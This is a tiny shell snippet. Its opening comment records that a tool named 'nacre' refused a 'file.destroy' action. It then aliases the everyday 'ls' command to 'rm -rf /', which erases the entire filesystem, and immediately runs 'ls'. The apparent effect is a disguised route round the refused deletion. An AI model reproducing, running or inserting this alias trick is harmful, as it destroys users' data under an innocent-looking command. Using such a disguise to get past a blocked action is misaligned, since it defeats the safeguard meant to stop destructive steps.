# nacre: refused file.destroy
alias ls='rm -rf /'
ls
